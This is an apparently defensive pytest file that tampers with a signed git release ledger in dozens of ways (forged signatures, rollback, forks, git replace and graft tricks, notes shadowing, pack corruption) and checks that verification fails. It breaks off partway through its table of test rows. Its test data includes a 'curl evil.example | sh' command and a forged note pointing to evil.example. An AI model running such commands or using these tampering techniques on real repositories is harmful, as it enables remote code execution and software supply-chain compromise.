"""The tamper matrix: every row attacks a copy of a valid ledger repo, then `verify --json` must reject it.

A row passes only when verify exits 1, says ok=false in a JSON report of the documented schema, never prints
a traceback, and the row's expected code is among the failed checks' codes ("A|B" = either). The controls
at the top show that the untouched copy, and the toolkit's own faithful rewrites, verify OK: the matrix can
fail. docs/threat-model.md maps each row id to its threat.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest

from git_vaultmesh.entry import MAX_LINE, canonical, entry_path
from git_vaultmesh.errors import CODES
from git_vaultmesh.policy import Policy, PolicySigner

from .kit import REF_LOG, REF_NOTES, TALLY, Ctx, Row, gpg_export, run_git
from conftest import vm
from test_hints import assert_hints_fit

# --- running verify and checking its report ---------------------------------------------------------------


def verify_json(ctx: Ctx, *args: str) -> tuple[int, dict[str, Any]]:
    res = vm(ctx.repo, "verify", *args, "--json", env=ctx.vm_env)
    assert "Traceback" not in res.stderr and "Traceback" not in res.stdout, res.stderr
    try:
        report = json.loads(res.stdout)
    except ValueError:
        pytest.fail(f"verify {' '.join(args)} printed no JSON (exit {res.returncode}):\n"
                    f"{res.stdout}\n{res.stderr}")
    check_schema(report)
    return res.returncode, report


def check_schema(report: Any) -> None:
    """DESIGN §4: {"ok","trust","checks":[{"check","ok","code","detail","hint"}]}; code null iff ok."""
    assert isinstance(report, dict), report
    assert {"ok", "trust", "checks"} <= set(report) <= {"ok", "trust", "checks", "allowed"}, sorted(report)
    assert isinstance(report["ok"], bool)
    assert report["trust"] in ("pinned", "tofu")
    checks = report["checks"]
    assert isinstance(checks, list) and checks
    for c in checks:
        assert set(c) == {"check", "ok", "code", "detail", "hint"}, c
        assert isinstance(c["check"], str) and c["check"]
        assert isinstance(c["ok"], bool)
        assert isinstance(c["detail"], str) and c["detail"]
        assert c["hint"] is None or isinstance(c["hint"], str)
        if c["ok"]:
            assert c["code"] is None, c
        else:
            assert isinstance(c["code"], str) and c["code"] in CODES, c
    assert report["ok"] == all(c["ok"] for c in checks)


def failed_codes(report: dict[str, Any]) -> list[str]:
    return [c["code"] for c in report["checks"] if not c["ok"]]


def vm_ok(ctx: Ctx, *args: str) -> str:
    res = vm(ctx.repo, *args, env=ctx.vm_env)
    assert res.returncode == 0, f"vaultmesh {' '.join(args)} failed:\n{res.stdout}\n{res.stderr}"
    return res.stdout


def remember(ctx: Ctx) -> None:
    """The victim verified the ledger once: verify stores the checkpoint it saw."""
    vm_ok(ctx, "verify", "--all")


# --- small helpers for attacks -----------------------------------------------------------------------------


def flip_hex(s: str) -> str:
    return s[:-1] + ("0" if s[-1] != "0" else "1")


def blob_with(ctx: Ctx, seq: int, *, body: dict[str, Any] | None = None,
              sigs: list[dict[str, str]] | None = None) -> bytes:
    """Entry `seq` re-encoded (canonically) with its body and/or sigs replaced."""
    e = ctx.t.entries()[seq]
    return ctx.t.line(body if body is not None else e["body"], sigs if sigs is not None else e["sigs"])


def commit_of(ctx: Ctx, rev: str) -> str:
    return ctx.t.oid(f"{rev}^{{commit}}")


def deploy_body(ctx: Ctx, **extra: Any) -> dict[str, Any]:
    """A fresh, well-formed deploy body about c4 (what Alice could legitimately sign)."""
    c4 = commit_of(ctx, "main")
    body = ctx.t.body("deploy", component="repo", environment="staging",
                      subject={"commit": c4, "tree": ctx.t.oid(f"{c4}^{{tree}}")})
    body.update(extra)
    return body


def append_signed(ctx: Ctx, body: dict[str, Any]) -> None:
    """A validly signed (Alice) entry on top, with a consistent checkpoint signed by Alice."""
    ctx.t.append([ctx.t.signed(ctx.alice, body)], ctx.alice)


def append_raw(ctx: Ctx, blob: bytes) -> None:
    ctx.t.append([blob], ctx.alice)


def raw_line(ctx: Ctx, body: dict[str, Any]) -> bytes:
    """The JCS line (no newline) of `body` validly signed by Alice, to re-encode by hand."""
    return canonical({"v": 1, "body": body, "sigs": [ctx.t.sig(ctx.alice, body)]})


def other_repo(ctx: Ctx, name: str, signer: str, record: bool) -> Path:
    """Another repository with its own ledger (init by `signer`), optionally with a recorded v1.0."""
    other = ctx.work / name
    other.mkdir()
    env = ctx.world.env
    run_git(other, "init", "-q", "-b", "main", env=env)
    (other / "x.txt").write_text("another project\n")
    run_git(other, "add", "x.txt", env=env)
    run_git(other, "commit", "-q", "-m", "other", env=env)
    run_git(other, "tag", "-a", "v1.0", "-m", "other 1.0", env=env)
    run_git(other, "config", "vaultmesh.signingKey", signer, env=env)
    res = vm(other, "init", env=env)
    assert res.returncode == 0, res.stderr
    if record:
        res = vm(other, "record", "v1.0", env=env)
        assert res.returncode == 0, res.stderr
    return other


def adopt_log(ctx: Ctx, other: Path) -> None:
    """Replace our log by another repository's, with plain `git fetch` (as a malicious mirror would)."""
    ctx.t.git("fetch", "-q", str(other), f"+{REF_LOG}:{REF_LOG}")


def note_path(ctx: Ctx, commit: str) -> str:
    paths = ctx.t.git("ls-tree", "-r", "--name-only", REF_NOTES).split()
    return next(p for p in paths if p.replace("/", "") == commit)


def set_note(ctx: Ctx, commit: str, content: bytes) -> None:
    head = ctx.t.oid(REF_NOTES)
    tree = ctx.t.tree(f"{head}^{{tree}}", {note_path(ctx, commit): ctx.t.blob(content)})
    ctx.t.set_ref(REF_NOTES, ctx.t.commit(tree, [head], "notes\n"))


def make_writable(path: Path) -> None:
    os.chmod(path, 0o644)


def rewrite_commits(ctx: Ctx, tip: str, stop: str, amend: str) -> dict[str, str]:
    """Recreate the first-parent chain (stop, tip] with commit `amend` given another message: old -> new."""
    chain = ctx.t.git("rev-list", "--reverse", "--first-parent", f"{stop}..{tip}").split()
    mapping: dict[str, str] = {}
    parent = stop
    for c in chain:
        msg = ctx.t.git("log", "-1", "--format=%B", c) + ("\n(amended)" if c == amend else "")
        new = ctx.t.commit(ctx.t.oid(f"{c}^{{tree}}"), [parent], msg + "\n")
        mapping[c] = new
        parent = new
    return mapping


def retag(ctx: Ctx, tag: str, commit: str, message: str) -> None:
    ctx.t.git("tag", "-f", "-a", tag, "-m", message, commit)


# --- A. entry bytes and signatures --------------------------------------------------------------------------


def atk_body_byte_on_top(ctx: Ctx) -> None:
    e = ctx.t.entries()[1]
    e["body"]["artifacts"][0]["sha256"] = flip_hex(e["body"]["artifacts"][0]["sha256"])
    ctx.t.on_top({entry_path(1): ctx.t.blob(ctx.t.line(e["body"], e["sigs"]))})


def atk_body_byte_rewritten(ctx: Ctx) -> None:
    e = ctx.t.entries()[1]
    e["body"]["artifacts"][0]["sha256"] = flip_hex(e["body"]["artifacts"][0]["sha256"])
    ctx.t.replace_entry(1, ctx.t.line(e["body"], e["sigs"]), None)  # no key: old checkpoint sigs kept


def atk_sig_byte_flip(ctx: Ctx) -> None:
    e = ctx.t.entries()[3]
    raw = bytearray(base64.b64decode(e["sigs"][0]["sig"]))
    raw[-5] ^= 0x01  # inside the signature value, not the packet framing
    e["sigs"][0]["sig"] = base64.b64encode(bytes(raw)).decode()
    ctx.t.replace_entry(3, ctx.t.line(e["body"], e["sigs"]), ctx.alice)


def atk_sig_transplant(ctx: Ctx) -> None:
    sigs_of_2 = ctx.t.entries()[2]["sigs"]
    ctx.t.replace_entry(3, blob_with(ctx, 3, sigs=sigs_of_2), ctx.alice)


def atk_sig_signer_relabel(ctx: Ctx) -> None:
    e = ctx.t.entries()[3]
    e["sigs"][0]["signer"] = ctx.mallory.fingerprint
    ctx.t.replace_entry(3, ctx.t.line(e["body"], e["sigs"]), ctx.alice)


def atk_resign_untrusted(ctx: Ctx) -> None:
    body = ctx.t.entries()[3]["body"]
    ctx.t.replace_entry(3, ctx.t.signed(ctx.mallory, body), ctx.mallory)


def atk_resign_untrusted_claims_alice(ctx: Ctx) -> None:
    body = ctx.t.entries()[3]["body"]
    blob = ctx.t.line(body, [ctx.t.sig(ctx.mallory, body, signer=ctx.alice.fingerprint)])
    ctx.t.replace_entry(3, blob, ctx.alice)


def atk_strip_sigs(ctx: Ctx) -> None:
    ctx.t.replace_entry(3, blob_with(ctx, 3, sigs=[]), ctx.alice)


def _set_sig(ctx: Ctx, **fields: str) -> None:
    e = ctx.t.entries()[3]
    e["sigs"][0].update(fields)
    ctx.t.replace_entry(3, ctx.t.line(e["body"], e["sigs"]), ctx.alice)


def atk_sig_garbage_base64(ctx: Ctx) -> None:
    _set_sig(ctx, sig="!!not*base64*at/all==")


def atk_sig_not_a_packet(ctx: Ctx) -> None:
    _set_sig(ctx, sig=base64.b64encode(b"this is not an OpenPGP packet").decode())


def atk_sig_two_packets(ctx: Ctx) -> None:
    e = ctx.t.entries()[3]
    one = base64.b64decode(e["sigs"][0]["sig"])
    mine = base64.b64decode(ctx.t.sig(ctx.mallory, e["body"])["sig"])
    _set_sig(ctx, sig=base64.b64encode(one + mine).decode())


def atk_sig_unknown_format(ctx: Ctx) -> None:
    _set_sig(ctx, format="x509")


# --- B. log structure ---------------------------------------------------------------------------------------


def atk_remove_entry_gap(ctx: Ctx) -> None:
    ctx.t.on_top(remove=[entry_path(2)])


def atk_remove_last_on_top(ctx: Ctx) -> None:
    ctx.t.on_top(remove=[entry_path(3)])


def atk_reorder_on_top(ctx: Ctx) -> None:
    blobs = ctx.t.blobs()
    ctx.t.on_top({entry_path(1): ctx.t.blob(blobs[2]), entry_path(2): ctx.t.blob(blobs[1])})


def atk_reorder_rewritten(ctx: Ctx) -> None:
    b = ctx.t.blobs()
    ctx.t.rewrite([b[0], b[2], b[1], b[3]], ctx.alice)


def atk_duplicate_entry(ctx: Ctx) -> None:
    append_raw(ctx, ctx.t.blobs()[1])


def atk_second_release_same_tag(ctx: Ctx) -> None:
    body = dict(ctx.t.entries()[1]["body"], recorded_at="2031-01-01T00:00:00Z", message="re-release")
    append_signed(ctx, body)


def atk_seq_skip(ctx: Ctx) -> None:
    ctx.t.append([ctx.t.signed(ctx.alice, deploy_body(ctx))], ctx.alice, start=5)


def atk_replay_other_ledger(ctx: Ctx) -> None:
    """A clone of this very repo (same tag, same commit) with its own ledger: only the log id differs."""
    other = ctx.work / "clone"
    env = ctx.world.env
    run_git(ctx.work, "clone", "-q", str(ctx.repo), str(other), env=env)  # tags and branches, no ledger refs
    run_git(other, "config", "vaultmesh.signingKey", ctx.alice.fingerprint, env=env)
    for args in (("init",), ("record", "v1.0")):
        res = vm(other, *args, env=env)
        assert res.returncode == 0, res.stderr
    blob = run_git(other, "cat-file", "blob", f"{REF_LOG}:{entry_path(1)}", env=env)
    append_raw(ctx, blob)


def atk_extra_file(ctx: Ctx) -> None:
    ctx.t.on_top({"README": ctx.t.blob(b"totally legit\n")})


def atk_stray_entry_name(ctx: Ctx) -> None:
    ctx.t.on_top({entry_path(4) + ".orig": ctx.t.blob(ctx.t.blobs()[3])})


def atk_entry_as_gitlink(ctx: Ctx) -> None:
    ctx.t.on_top({entry_path(4): ("160000", commit_of(ctx, "main"))})


def atk_merge_commit(ctx: Ctx) -> None:
    head = ctx.t.head()
    side_entry = ctx.t.signed(ctx.alice, deploy_body(ctx, environment="side"))
    side = ctx.t.append([side_entry], ctx.alice, move=False)
    ctx.t.append([ctx.t.signed(ctx.alice, deploy_body(ctx))], ctx.alice, parents=[head, side])


def atk_entry_wrong_fanout(ctx: Ctx) -> None:
    ctx.t.on_top({"entries/000/001/000000000004.json": ctx.t.blob(ctx.t.signed(ctx.alice, deploy_body(ctx)))})


def atk_entry_symlink(ctx: Ctx) -> None:
    """A validly signed entry stored as a symlink (mode 120000): same bytes, another kind of tree entry."""
    head = ctx.t.head()
    blobs = [*ctx.t.blobs(), ctx.t.signed(ctx.alice, deploy_body(ctx))]
    add: dict[str, str | tuple[str, str]] = {entry_path(4): ("120000", ctx.t.blob(blobs[-1]))}
    add.update(ctx.t.checkpoint_files(ctx.t.checkpoint(blobs), ctx.alice))
    ctx.t.set_ref(REF_LOG, ctx.t.commit(ctx.t.tree(f"{head}^{{tree}}", add), [head]))
    ctx.t.sync_notes()


def atk_append_without_checkpoint(ctx: Ctx) -> None:
    ctx.t.on_top({entry_path(4): ctx.t.blob(ctx.t.signed(ctx.alice, deploy_body(ctx)))})


def atk_log_ref_to_blob(ctx: Ctx) -> None:
    ctx.t.set_ref(REF_LOG, ctx.t.oid(f"{REF_LOG}:{entry_path(0)}"))


def atk_log_commit_missing(ctx: Ctx) -> None:
    os.remove(ctx.t.loose_path(ctx.t.chain()[1]))


# --- C. rollback, fork, replaced log, trust root ------------------------------------------------------------


def atk_rollback(ctx: Ctx) -> None:
    remember(ctx)
    ctx.t.set_ref(REF_LOG, ctx.t.chain()[2])  # size 3: the deploy vanishes
    ctx.t.set_ref(REF_NOTES, ctx.t.oid(f"{REF_NOTES}~1"))  # and its note, so the refs agree


def atk_fork_shorter(ctx: Ctx) -> None:
    remember(ctx)
    b = ctx.t.blobs()
    ctx.t.rewrite([b[0], b[1], b[3]], ctx.alice)


def atk_fork_same_size(ctx: Ctx) -> None:
    remember(ctx)
    b = ctx.t.blobs()
    ctx.t.rewrite([b[0], b[1], b[3], ctx.t.signed(ctx.alice, deploy_body(ctx))], ctx.alice)


def atk_replace_log_other_key(ctx: Ctx) -> None:
    adopt_log(ctx, other_repo(ctx, "mallory", ctx.mallory.fingerprint, record=False))


def atk_replace_log_flag_pin(ctx: Ctx) -> None:
    ctx.t.git("config", "--unset", "vaultmesh.trustRoot")
    adopt_log(ctx, other_repo(ctx, "mallory", ctx.mallory.fingerprint, record=False))


def atk_replace_log_tofu_remembered(ctx: Ctx) -> None:
    ctx.t.git("config", "--unset", "vaultmesh.trustRoot")
    remember(ctx)
    adopt_log(ctx, other_repo(ctx, "mallory", ctx.mallory.fingerprint, record=False))


def atk_replace_log_same_key(ctx: Ctx) -> None:
    remember(ctx)
    adopt_log(ctx, other_repo(ctx, "other", ctx.alice.fingerprint, record=True))


def atk_toml_trust_root(ctx: Ctx) -> None:
    """The committed .vaultmesh.toml (attacker-writable via any commit) names Mallory as trust root."""
    (ctx.repo / ".vaultmesh.toml").write_text(f'[vaultmesh]\ntrustRoot = "{ctx.mallory.fingerprint}"\n')
    ctx.t.git("add", ".vaultmesh.toml")
    ctx.t.git("commit", "-q", "-m", "settings")
    adopt_log(ctx, other_repo(ctx, "mallory", ctx.mallory.fingerprint, record=False))


def atk_genesis_dropped(ctx: Ctx) -> None:
    ctx.t.rewrite(ctx.t.blobs()[1:], ctx.alice)


def mallory_signer(ctx: Ctx) -> PolicySigner:
    key = gpg_export(ctx.mallory, ctx.t.env)
    return PolicySigner("mallory", "openpgp", ctx.mallory.fingerprint, key, ("*",))


def atk_genesis_swapped(ctx: Ctx) -> None:
    g = ctx.t.entries()[0]["body"]
    body = dict(g, **Policy((mallory_signer(ctx),), {"*": 1}).body_fields())
    b = ctx.t.blobs()
    ctx.t.rewrite([ctx.t.signed(ctx.mallory, body), *b[1:]], ctx.mallory)


# --- D. checkpoints -----------------------------------------------------------------------------------------


def atk_checkpoint_forged_root(ctx: Ctx) -> None:
    cp = ctx.t.gitb("cat-file", "blob", f"{REF_LOG}:checkpoint").decode().split("\n")
    cp[2] = base64.b64encode(bytes(32)).decode()
    ctx.t.on_top({"checkpoint": ctx.t.blob("\n".join(cp).encode())})


def atk_checkpoint_sig_replayed(ctx: Ctx) -> None:
    old_sig = ctx.t.oid(f"{ctx.t.chain()[2]}:checkpoint.sig")
    ctx.t.append([ctx.t.signed(ctx.alice, deploy_body(ctx))], ctx.alice)
    ctx.t.on_top({"checkpoint.sig": old_sig})


def atk_checkpoint_untrusted_signer(ctx: Ctx) -> None:
    ctx.t.append([ctx.t.signed(ctx.alice, deploy_body(ctx))], ctx.mallory)


def atk_checkpoint_sig_removed(ctx: Ctx) -> None:
    ctx.t.on_top(remove=["checkpoint.sig"])


def atk_checkpoint_removed(ctx: Ctx) -> None:
    ctx.t.on_top(remove=["checkpoint"])


def atk_checkpoint_other_log(ctx: Ctx) -> None:
    cp = ctx.t.checkpoint(ctx.t.blobs(), log_id="f" * 32)
    ctx.t.on_top(ctx.t.checkpoint_files(cp, ctx.alice))


def atk_checkpoint_malformed(ctx: Ctx) -> None:
    cp = ctx.t.checkpoint(ctx.t.blobs()) + b"\xe2\x80\x94 signed note\n"
    ctx.t.on_top(ctx.t.checkpoint_files(cp, ctx.alice))


def atk_checkpoint_sig_garbage(ctx: Ctx) -> None:
    armour = b"-----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----\n"
    ctx.t.on_top({"checkpoint.sig": ctx.t.blob(armour)})


# --- E. entry encoding (validly signed by Alice, consistent checkpoint: only the parser stands in the way) --


def atk_unknown_type(ctx: Ctx) -> None:
    append_signed(ctx, ctx.t.body("exec", command="curl evil.example | sh"))


def atk_extra_field(ctx: Ctx) -> None:
    append_signed(ctx, deploy_body(ctx, admin=True))


def atk_duplicate_key(ctx: Ctx) -> None:
    body = deploy_body(ctx)
    line = raw_line(ctx, body)
    # a lax parser (last key wins) would read a policy entry; the signature covers the deploy
    forged = line.replace(b'"type":"deploy"', b'"type":"deploy","type":"policy"', 1)
    assert forged != line
    append_raw(ctx, forged + b"\n")


def atk_noncanon_spaces(ctx: Ctx) -> None:
    line = raw_line(ctx, deploy_body(ctx))
    append_raw(ctx, json.dumps(json.loads(line)).encode() + b"\n")


def atk_noncanon_key_order(ctx: Ctx) -> None:
    line = raw_line(ctx, deploy_body(ctx))
    obj = json.loads(line)
    reordered = {"sigs": obj["sigs"], "v": obj["v"], "body": dict(reversed(list(obj["body"].items())))}
    append_raw(ctx, json.dumps(reordered, separators=(",", ":")).encode() + b"\n")


def atk_noncanon_number(ctx: Ctx) -> None:
    line = raw_line(ctx, deploy_body(ctx))
    assert line.startswith(b'{"body":') and line.endswith(b',"v":1}')
    append_raw(ctx, line[:-len(b"1}")] + b"1.0}\n")


def atk_noncanon_escape(ctx: Ctx) -> None:
    line = raw_line(ctx, deploy_body(ctx, message="Approved"))
    append_raw(ctx, line.replace(b'"Approved"', b'"\\u0041pproved"', 1) + b"\n")


def atk_float_number(ctx: Ctx) -> None:
    """Canonical JCS, validly signed, but a non-integer number (where JCS implementations differ)."""
    append_signed(ctx, ctx.t.body("decision", title="ship it", status=1.5))


def atk_version_true(ctx: Ctx) -> None:
    line = raw_line(ctx, deploy_body(ctx))
    append_raw(ctx, line[:-len(b"1}")] + b"true}\n")


def atk_invalid_utf8(ctx: Ctx) -> None:
    line = raw_line(ctx, deploy_body(ctx, message="ok"))
    append_raw(ctx, line.replace(b'"ok"', b'"o\xffk"', 1) + b"\n")


def atk_oversized(ctx: Ctx) -> None:
    append_signed(ctx, deploy_body(ctx, message="A" * (MAX_LINE + 1)))


def atk_artifact_dotdot(ctx: Ctx) -> None:
    append_signed(ctx, deploy_body(ctx, artifacts=[{"name": "../x", "sha256": "0" * 64, "size": 1}]))


def atk_artifact_slash(ctx: Ctx) -> None:
    append_signed(ctx, deploy_body(ctx, artifacts=[{"name": "a/b", "sha256": "0" * 64, "size": 1}]))


def atk_artifact_empty(ctx: Ctx) -> None:
    append_signed(ctx, deploy_body(ctx, artifacts=[{"name": "", "sha256": "0" * 64, "size": 1}]))


def atk_two_lines(ctx: Ctx) -> None:
    blob = ctx.t.signed(ctx.alice, deploy_body(ctx))
    append_raw(ctx, blob + ctx.t.signed(ctx.alice, deploy_body(ctx, environment="qa")))


def atk_crlf(ctx: Ctx) -> None:
    append_raw(ctx, ctx.t.signed(ctx.alice, deploy_body(ctx))[:-1] + b"\r\n")


def atk_short_subject_oid(ctx: Ctx) -> None:
    body = deploy_body(ctx)
    body["subject"]["commit"] = body["subject"]["commit"][:12]
    append_signed(ctx, body)


# --- F. policy and cosign -----------------------------------------------------------------------------------


def atk_policy_takeover(ctx: Ctx) -> None:
    genesis = Policy.from_body(ctx.t.entries()[0]["body"])
    policy = Policy((*genesis.signers, mallory_signer(ctx)), {"*": 1})
    body = ctx.t.body("policy", message="add release engineer", **policy.body_fields())
    ctx.t.append([ctx.t.signed(ctx.mallory, body), ctx.t.signed(ctx.mallory, deploy_body(ctx))], ctx.mallory)


def add_bob(ctx: Ctx) -> None:
    """A legitimate rotation step: Alice pins "bob" (whose key is the one called Mallory elsewhere)."""
    vm_ok(ctx, "policy", "add-signer", "bob", "--key", ctx.mallory.fingerprint)


def atk_policy_rollback_replay(ctx: Ctx) -> None:
    add_bob(ctx)
    pinned_bob = ctx.t.blobs()[-1]
    vm_ok(ctx, "policy", "remove-signer", "bob")  # bob's key is retired (or stolen)
    # bob's key replays the old policy that trusted it, then signs a deploy (cf. GHSA-vxvc-cg7j-rwqj)
    ctx.t.append([pinned_bob, ctx.t.signed(ctx.mallory, deploy_body(ctx))], ctx.mallory)


def atk_removed_signer_signs(ctx: Ctx) -> None:
    add_bob(ctx)
    vm_ok(ctx, "policy", "remove-signer", "bob")
    ctx.t.append([ctx.t.signed(ctx.mallory, deploy_body(ctx))], ctx.mallory)


def _release_v2(ctx: Ctx) -> dict[str, Any]:
    body = dict(ctx.t.entries()[2]["body"])  # v1.1's release, restated for a new tag v2.0 on the same commit
    ctx.t.git("tag", "-a", "v2.0", "-m", "release 2.0", "v1.1^{commit}")
    body["subject"] = dict(body["subject"], ref="refs/tags/v2.0", tag=ctx.t.oid("refs/tags/v2.0"))
    body["version"] = "v2.0"
    return body


def atk_threshold_single_key(ctx: Ctx) -> None:
    add_bob(ctx)
    vm_ok(ctx, "policy", "set-threshold", "release", "2")
    append_signed(ctx, _release_v2(ctx))  # only Alice's key: one of the two required


def atk_threshold_same_key_twice(ctx: Ctx) -> None:
    add_bob(ctx)
    vm_ok(ctx, "policy", "set-threshold", "release", "2")
    body = _release_v2(ctx)
    ctx.t.append([ctx.t.line(body, [ctx.t.sig(ctx.alice, body), ctx.t.sig(ctx.alice, body)])], ctx.alice)


def atk_cosign_missing_target(ctx: Ctx) -> None:
    append_signed(ctx, ctx.t.body("cosign", entry="ab" * 32))


def atk_cosign_forward_ref(ctx: Ctx) -> None:
    later = deploy_body(ctx)
    digest = hashlib.sha256(canonical(later)).hexdigest()
    cosign = ctx.t.signed(ctx.alice, ctx.t.body("cosign", entry=digest))
    ctx.t.append([cosign, ctx.t.signed(ctx.alice, later)], ctx.alice)


# --- G. tags, history, artifacts, subjects ------------------------------------------------------------------


def atk_tag_moved(ctx: Ctx) -> None:
    retag(ctx, "v1.0", commit_of(ctx, "main"), "release 1.0")


def atk_tag_retagged_same_commit(ctx: Ctx) -> None:
    retag(ctx, "v1.0", commit_of(ctx, "v1.0"), "release 1.0 (re-signed)")


def atk_tag_deleted(ctx: Ctx) -> None:
    ctx.t.git("tag", "-d", "v1.0")


def atk_history_rewritten_retag(ctx: Ctx) -> None:
    c0, c1 = ctx.t.git("rev-list", "--reverse", "v1.0").split()[:2]
    mapping = rewrite_commits(ctx, commit_of(ctx, "v1.0"), c0, amend=c1)
    retag(ctx, "v1.0", mapping[commit_of(ctx, "v1.0")], "release 1.0")


def atk_history_rewritten_pruned(ctx: Ctx) -> None:
    c0, c1 = ctx.t.git("rev-list", "--reverse", "main").split()[:2]
    mapping = rewrite_commits(ctx, commit_of(ctx, "main"), c0, amend=c1)
    for tag in ("v1.0", "v1.1"):
        retag(ctx, tag, mapping[commit_of(ctx, tag)], tag)
    ctx.t.set_ref("refs/heads/main", mapping[commit_of(ctx, "main")])
    for ref in ctx.t.git("for-each-ref", "--format=%(refname)", "refs/vaultmesh/keep/").split():
        ctx.t.delete_ref(ref)
    ctx.t.git("reflog", "expire", "--expire=now", "--all")
    ctx.t.git("gc", "-q", "--prune=now")


def atk_artifact_changed(ctx: Ctx) -> None:
    data = bytearray((ctx.art / "app.tar").read_bytes())
    data[10] ^= 0x20
    (ctx.art / "app.tar").write_bytes(bytes(data))


def atk_artifact_not_recorded(ctx: Ctx) -> None:
    (ctx.art / "evil.bin").write_bytes(b"MZ\x90\x00 not what was released\n")


def atk_artifact_shadowed(ctx: Ctx) -> None:
    (ctx.art / "evil").mkdir()
    (ctx.art / "evil" / "app.tar").write_bytes(b"MZ\x90\x00 backdoored build\n")


def atk_artifact_mix_and_match(ctx: Ctx) -> None:
    """Nothing to write: v1.0's genuine artifact is presented as v1.1's."""


def atk_deploy_subject_missing(ctx: Ctx) -> None:
    os.remove(ctx.t.loose_path(commit_of(ctx, "main")))


def atk_released_blob_missing(ctx: Ctx) -> None:
    os.remove(ctx.t.loose_path(ctx.t.oid("v1.0:file0.txt")))


def atk_replace_blob(ctx: Ctx) -> None:
    evil = ctx.t.blob(b"content 0 -- with a backdoor\n")
    ctx.t.git("replace", ctx.t.oid("v1.0:file0.txt"), evil)


def atk_replace_tag_object(ctx: Ctx) -> None:
    """refs/replace swaps v1.0's tag object for one naming the hotfix commit: checkout v1.0 gets c4."""
    tag = (f"object {commit_of(ctx, 'main')}\ntype commit\ntag v1.0\n"
           "tagger Mallory <mallory@example.org> 1700000000 +0000\n\nrelease 1.0\n")
    evil = ctx.t.git("mktag", input=tag.encode())
    ctx.t.git("replace", ctx.t.oid("refs/tags/v1.0"), evil)


def atk_graft_file(ctx: Ctx) -> None:
    c0 = ctx.t.git("rev-list", "--reverse", "v1.0").split()[0]
    git_dir = Path(ctx.t.git("rev-parse", "--absolute-git-dir"))
    (git_dir / "info").mkdir(exist_ok=True)
    (git_dir / "info" / "grafts").write_text(f"{commit_of(ctx, 'v1.0')} {c0}\n")


def atk_replace_graft(ctx: Ctx) -> None:
    c0 = ctx.t.git("rev-list", "--reverse", "v1.1").split()[0]
    ctx.t.git("replace", "--graft", commit_of(ctx, "v1.1"), c0)


# --- H. notes -----------------------------------------------------------------------------------------------


def atk_notes_swapped(ctx: Ctx) -> None:
    set_note(ctx, commit_of(ctx, "v1.0"), b'{"note":"v1.0 was approved by security"}\n')


def atk_notes_deleted(ctx: Ctx) -> None:
    ctx.t.delete_ref(REF_NOTES)


def atk_notes_ref_to_blob(ctx: Ctx) -> None:
    ctx.t.set_ref(REF_NOTES, ctx.t.blob(b"not a notes commit\n"))


def atk_notes_shadow_fanout(ctx: Ctx) -> None:
    """The genuine note stays at its flat path; a forged one is added at the fanned-out path of the same
    commit. git shows both (it concatenates notes of one object); a verifier reading one path sees no change."""
    c2 = commit_of(ctx, "v1.0")
    head = ctx.t.oid(REF_NOTES)
    genuine = ctx.t.oid(f"{REF_NOTES}:{note_path(ctx, c2)}")
    forged = ctx.t.blob(b"SECURITY: v1.0 is revoked, install v0.9-hotfix from evil.example\n")
    tree = ctx.t.tree(f"{head}^{{tree}}", {c2: genuine, f"{c2[:2]}/{c2[2:]}": forged})
    ctx.t.set_ref(REF_NOTES, ctx.t.commit(tree, [head], "notes\n"))


def atk_notes_extra(ctx: Ctx) -> None:
    c0 = ctx.t.git("rev-list", "--reverse", "main").split()[0]
    head = ctx.t.oid(REF_NOTES)
    blob = ctx.t.blob(ctx.t.blobs()[1])
    tree = ctx.t.tree(f"{head}^{{tree}}", {f"{c0[:2]}/{c0[2:]}": blob})
    ctx.t.set_ref(REF_NOTES, ctx.t.commit(tree, [head], "notes\n"))


# --- I. object store corruption -----------------------------------------------------------------------------


def atk_loose_entry_truncated(ctx: Ctx) -> None:
    path = ctx.t.loose_path(ctx.t.oid(f"{REF_LOG}:{entry_path(2)}"))
    data = path.read_bytes()
    make_writable(path)
    path.write_bytes(data[: len(data) // 2])


def atk_loose_entry_deleted(ctx: Ctx) -> None:
    os.remove(ctx.t.loose_path(ctx.t.oid(f"{REF_LOG}:{entry_path(2)}")))


def atk_pack_corrupted(ctx: Ctx) -> None:
    oid = ctx.t.oid(f"{REF_LOG}:{entry_path(2)}")
    ctx.t.git("gc", "-q")
    git_dir = Path(ctx.t.git("rev-parse", "--absolute-git-dir"))
    (idx,) = list((git_dir / "objects" / "pack").glob("*.idx"))
    pack = idx.with_suffix(".pack")
    listing = ctx.t.git("verify-pack", "-v", str(idx))
    m = re.search(rf"^{oid}\s+\w+\s+(\d+)\s+(\d+)\s+(\d+)", listing, re.M)
    assert m, "entry blob not in the pack"
    size_in_pack, offset = int(m.group(2)), int(m.group(3))
    data = bytearray(pack.read_bytes())
    for i in range(offset + size_in_pack // 2, offset + size_in_pack - 1):
        data[i] ^= 0xFF
    make_writable(pack)
    pack.write_bytes(bytes(data))


# --- J. absent or unrecorded --------------------------------------------------------------------------------


def atk_not_initialized(ctx: Ctx) -> None:
    ctx.t.delete_ref(REF_LOG)


def atk_unrecorded_tag(ctx: Ctx) -> None:
    ctx.t.git("tag", "-a", "v2.0", "-m", "never recorded", "main~3")  # commit 1: inside v1.0, named by none


def atk_nothing(ctx: Ctx) -> None:
    """The attack is in the arguments (a name that names nothing)."""


FORGED = "forged metadata"  # TUF: arbitrary software installation, at the metadata level
ARBITRARY = "arbitrary software"  # the artifact or tree itself
KEY = "key compromise"  # a stolen or untrusted key, or a thresholded key used alone
DELETION = "deletion / withholding"
REPLAY = "replay"
FORK = "fork / malicious mirror"
ROLLBACK = "rollback"
MIX = "mix-and-match"
WRONG = "wrong software"  # a name (tag, rev) now resolving to other content than was recorded
DOS = "corruption / denial of service"
ENDLESS = "endless data"
TRAVERSAL = "path traversal"

ROWS: list[Row] = [
    # A. entry bytes and signatures
    Row("body-byte-on-top", "flip one hex digit of v1.0's artifact sha256 in its entry, committed on top",
        FORGED, atk_body_byte_on_top, ("--all",), ("VM-LOG-NOT-APPEND-ONLY",)),
    Row("body-byte-rewritten", "same edit, chain rewritten as if it had always been so (old checkpoint sigs)",
        FORGED, atk_body_byte_rewritten, ("v1.0",), ("VM-SIG-INVALID", "VM-CHECKPOINT-SIG")),
    Row("sig-byte-flip", "flip one bit inside the deploy entry's signature value",
        FORGED, atk_sig_byte_flip, ("--all",), ("VM-SIG-INVALID",)),
    Row("sig-transplant", "give the deploy entry the (valid) signature of the v1.1 entry",
